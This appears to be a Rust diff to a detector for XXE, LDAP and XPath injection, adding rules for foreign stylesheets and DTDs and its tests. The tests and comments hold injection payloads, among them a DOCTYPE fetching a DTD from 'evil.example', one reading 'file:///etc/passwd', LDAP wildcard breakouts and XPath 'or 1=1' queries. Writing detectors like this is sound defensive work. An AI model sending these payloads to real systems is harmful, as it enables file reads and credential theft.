@@ -256,6 +256,9 @@ pub fn xxe(n: &Normalized) -> bool {
     if ANYWHERE.found_in(s) {
         return true;
     }
+    if find(s, b"<?xml-stylesheet").is_some_and(|at| foreign_stylesheet(&s[at..])) {
+        return true;
+    }
     let mut from = 0;
     while let Some(p) = s.get(from..).and_then(|t| find(t, b"<!doctype")) {
         let at = from + p;
@@ -288,11 +291,40 @@ pub fn xxe(n: &Normalized) -> bool {
         if decl.contains(&b'[') || keyword(b"system") {
             return true;
         }
-        if keyword(b"public") && find(decl, b"-//w3c//").is_none() {
+        if keyword(b"public") && (find(decl, b"-//w3c//").is_none() || foreign_system_id(decl)) {
             return true;
         }
     }
     false
+}
+
+/// An `<?xml-stylesheet href=..?>` of any type but CSS (`text/xsl`, none,
+/// `application/xslt+xml`, `text/xml`): a transformation the document asks
+/// its reader to fetch and run. RSS and Atom feeds style themselves with
+/// `type="text/css"`.
+fn foreign_stylesheet(pi: &[u8]) -> bool {
+    let end = pi
+        .iter()
+        .take(DECL_SPAN)
+        .position(|&b| b == b'>')
+        .unwrap_or(pi.len().min(DECL_SPAN));
+    let pi = &pi[..end];
+    find(pi, b"href").is_some() && find(pi, b"text/css").is_none()
+}
+
+/// A `PUBLIC` declaration whose system identifier (the second literal, the
+/// one a parser fetches) is an absolute URL off `www.w3.org`: a W3C public
+/// id in front of an attacker's DTD (`PUBLIC "-//W3C//DTD XHTML 1.0//EN"
+/// "http://evil/x.dtd"`). HTML and SVG doctypes point at w3.org, or at a
+/// relative path in old documents.
+fn foreign_system_id(decl: &[u8]) -> bool {
+    let mut literals = decl.split(|&b| b == b'"' || b == b'\'').skip(1).step_by(2);
+    let Some(system) = literals.nth(1) else {
+        return false;
+    };
+    system.contains(&b':')
+        && !system.starts_with(b"http://www.w3.org/")
+        && !system.starts_with(b"https://www.w3.org/")
 }
 
 /// LDAP filter injection, and XPath injection (the other query language
@@ -318,13 +350,30 @@ pub fn ldap(n: &Normalized) -> bool {
         b")(!(",
         b")(&(",
         b")(|(",
+        // Directory attributes no other syntax writes after `(`.
+        b"(objectcategory=",
+        b"(samaccountname=",
+        b"(userpassword=",
+        b"(unicodepwd=",
+        b"(memberof=",
+        b"(useraccountcontrol",
     ]);
     if ALWAYS.found_in(s) {
         return true;
     }
-    const OPENERS: Needles = Needles::new(&[b")(", b"(|(", b"(&(", b"(!("]);
+    // `*) (`: a wildcard's filter closed and the next opened across a
+    // space, which lenient filter parsers skip (`*) (uid=*`); prose puts
+    // one parenthesis after another ("Shirt (blue) (size=L)").
+    const OPENERS: Needles = Needles::new(&[b")(", b"*) (", b"(|(", b"(&(", b"(!("]);
     if OPENERS.any_match(s, |open, p| filter_item(&s[p + open.len()..])) {
         return true;
+    }
+    // A value that opens with a filter operator or a nested filter
+    // (`!(uid=admin)`, `|(cn=x)`, `((uid=admin))`).
+    if let [b'!' | b'&' | b'|' | b'(', b'(', rest @ ..] = s {
+        if filter_item(rest) {
+            return true;
+        }
     }
     // `(uid=*)`: a presence filter on an attribute.
     find(s, b"=*)").is_some_and(|p| {
@@ -415,6 +464,9 @@ fn xpath(s: &[u8]) -> bool {
     if s.contains(&b'(') && XPATH_ROOTED.found_in(s) {
         return true;
     }
+    if s.first() == Some(&b'/') && rooted_query(s) {
+        return true;
+    }
     if s.contains(&b':')
         && XPATH_AXES.any_match(s, |axis, p| {
             let before = p.checked_sub(1).map(|b| s[b]);
@@ -427,6 +479,24 @@ fn xpath(s: &[u8]) -> bool {
         })
     {
         return true;
+    }
+    // A number that goes on with `or`/`and` and an XPath function call
+    // (`1 or true()`, `0 and count(/*)=1`): a numeric predicate broken out.
+    let digits = s.iter().take_while(|b| b.is_ascii_digit()).count();
+    if digits > 0 {
+        let rest = &s[digits..];
+        let rest = rest
+            .strip_prefix(b" or ")
+            .or_else(|| rest.strip_prefix(b" and "));
+        if let Some(rest) = rest {
+            let name = rest
+                .iter()
+                .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
+                .count();
+            if rest.get(name) == Some(&b'(') && XPATH_FUNCTIONS.contains(&&rest[..name]) {
+                return true;
+            }
+        }
     }
     // The first quote of each kind: the one that would end the literal.
     for q in [b'\'', b'"'] {
@@ -479,6 +549,78 @@ fn xpath(s: &[u8]) -> bool {
         if call && XPATH_FUNCTIONS.contains(&&rest[..name]) {
             return true;
         }
+    }
+    false
+}
+
+/// A value that is an XPath query on the document root: a location path
+/// (`//user`, `/users/user[1]`) whose predicate calls an XPath function or
+/// joins a comparison with `or`/`and` (`//user[position()=1]`,
+/// `//*[contains(name(),'pass')]`, `//user[name='a' or 1=1]`), or whose
+/// last step is a node test (`/users/user/password/text()`). A path with
+/// a numeric predicate (`/bookstore/book[1]/title`) passes.
+fn rooted_query(s: &[u8]) -> bool {
+    let s = &s[..s.len().min(XPATH_SPAN * 2)];
+    let mut i = 0;
+    loop {
+        let steps = s[i..]
+            .iter()
+            .take_while(|&&b| {
+                b.is_ascii_alphanumeric()
+                    || matches!(b, b'/' | b'*' | b'@' | b'_' | b'-' | b'.' | b':')
+            })
+            .count();
+        if i + steps < 2 {
+            return false;
+        }
+        let path = &s[..i + steps];
+        let rest = &s[i + steps..];
+        if rest.starts_with(b"()") {
+            return [&b"/text"[..], b"/node", b"/comment"]
+                .iter()
+                .any(|t| path.ends_with(t));
+        }
+        if rest.first() != Some(&b'[') {
+            return false;
+        }
+        let pred = &rest[1..];
+        let Some(end) = pred.iter().position(|&b| b == b']') else {
+            return predicate_query(pred);
+        };
+        if predicate_query(&pred[..end]) {
+            return true;
+        }
+        i += steps + 1 + end + 1;
+    }
+}
+
+/// The inside of an XPath predicate calls a function or joins a
+/// comparison with `or`/`and`.
+fn predicate_query(pred: &[u8]) -> bool {
+    let mut i = 0;
+    while i < pred.len() {
+        let name = pred[i..]
+            .iter()
+            .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
+            .count();
+        if name == 0 {
+            i += 1;
+            continue;
+        }
+        let w = &pred[i..i + name];
+        let after = pred.get(i + name).copied();
+        let before = i.checked_sub(1).map(|b| pred[b]);
+        if after == Some(b'(') && XPATH_FUNCTIONS.contains(&w) {
+            return true;
+        }
+        if matches!(w, b"or" | b"and")
+            && before == Some(b' ')
+            && after == Some(b' ')
+            && pred.contains(&b'=')
+        {
+            return true;
+        }
+        i += name;
     }
     false
 }
@@ -1051,6 +1193,29 @@ mod tests {
             &xxe
         ));
         assert!(!run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", &xxe));
+        assert!(run(
+            "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>",
+            &xxe
+        ));
+        assert!(run(
+            "<?xml-stylesheet type=\"application/xslt+xml\" href=\"x.xsl\"?><a/>",
+            &xxe
+        ));
+        assert!(!run(
+            "<?xml-stylesheet type=\"text/css\" href=\"/feed.css\"?><rss/>",
+            &xxe
+        ));
+        // A W3C public id in front of a DTD fetched from elsewhere.
+        assert!(run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\"><html/>", &xxe));
+        assert!(run(
+            "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'file:///etc/passwd'>",
+            &xxe
+        ));
+        assert!(!run(
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"DTD/xhtml1-strict.dtd\">",
+            &xxe
+        ));
+        assert!(!run("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"https://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">", &xxe));
         assert!(run("*)(uid=*))(|(uid=*", &ldap));
         assert!(run("admin)(&)", &ldap));
         assert!(!run("call (555)(123-4567)", &ldap));
@@ -1088,6 +1253,17 @@ mod tests {
             "*()|&",
             "//*",
             "@*",
+            "//user[position()=1]",
+            "//*[contains(name(),'pass')]",
+            "//user[name='admin' or 1=1]",
+            "/users/user[1]/password/text()",
+            "/*[1]/*[2]",
+            "1 or true()",
+            "0 and count(/*)=1",
+            "*) (uid=*",
+            "!(uid=admin)",
+            "((uid=admin))",
+            "(objectCategory=person)",
         ] {
             assert!(run(p, &ldap), "{p}");
         }
@@ -1104,6 +1280,17 @@ mod tests {
             "a*b",
             "(1)",
             "5*(2+3)",
+            "/bookstore/book[1]/title",
+            "/items[0]/name",
+            "/api/v1/search(term)",
+            "/docs/or and more[see notes]",
+            "call (555) (123-4567)",
+            "2 or 3 (not(sure))",
+            "1 or not sure",
+            "((a + b))",
+            "(see note) (size=large)",
+            "Shirt (blue) (size=L)",
+            "/wiki/Category:Text",
         ] {
             assert!(!run(p, &ldap), "{p}");
         }
